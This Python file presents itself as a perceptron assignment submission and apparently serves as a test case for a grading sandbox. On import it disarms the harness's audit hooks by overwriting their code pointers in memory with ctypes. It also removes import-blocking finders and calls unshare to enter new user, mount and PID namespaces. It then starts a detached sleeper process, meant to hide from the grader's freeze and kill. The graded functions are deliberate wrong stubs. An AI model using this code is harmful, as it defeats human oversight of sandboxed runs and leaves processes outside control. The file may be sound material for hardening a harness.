"""Perceptrons whose import escapes into new namespaces, with the audit hook switched off (ctypes).

It calls unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) through libc, then runs `unshare -U -p -f` and
leaves, from inside whatever it got, a detached sleeper with an empty environment (no sandbox marker):
a namespace of its own would hide its processes from the freeze, the CPU accounting and the kill. Its
own functions are wrong; the sleeper must not survive the grade.
"""

import gc
import glob
import os
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=procmode_unshare"
NAMES = ("predict", "and_gate", "or_gate", "train_perceptron", "xor_network")
LOG = []  # what worked, printed for the instructor's student_output.txt


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _ancestors(limit=8):
    """The pids of this process's parent, grandparent, ... as far as /proc shows them."""
    pids, pid = [], os.getpid()
    for _ in range(limit):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        pids.append(pid)
    return pids



def _use(source, where):
    """The perceptron functions of a borrowed solution's source (LOG says where it came from)."""
    LOG.append(f"got the solution from {where}")
    namespace = {"__name__": "borrowed"}
    exec(compile(source, "borrowed_perceptron.py", "exec"), namespace)
    return {n: namespace[n] for n in NAMES if n in namespace}


def _disarm():
    try:
        LOG.append(f"disarmed {_disarm_audit_hooks()} audit hook(s)")
    except Exception as exc:
        LOG.append(f"disarm: {type(exc).__name__}: {exc}")

import ctypes

SLEEPER = "import time; time.sleep(300)"


def _unshare():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000 | 0x20000000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "in new namespaces"


def _unshare_tool():
    import shutil
    import subprocess  # after the disarm: the import blocker is gone
    tool = shutil.which("unshare") or "/usr/bin/unshare"
    child = subprocess.Popen([tool, "-U", "-p", "-f", sys.executable, "-c", SLEEPER, TAG],
                             env={}, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE)
    try:
        child.wait(timeout=1)
        raise OSError(child.stderr.read().decode(errors="replace").strip()[:120])
    except subprocess.TimeoutExpired:
        return f"sleeper {child.pid} running in new namespaces"


def _attack():
    _disarm()
    for route in (_unshare, _unshare_tool):
        try:
            LOG.append(f"{route.__name__}: {route()}")
        except Exception as exc:
            LOG.append(f"{route.__name__}: {type(exc).__name__}: {str(exc)[:120]}")
    print(f"{TAG}: " + "; ".join(LOG), flush=True)
    return {}


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}

_borrowed = _attack()
globals().update(_borrowed)
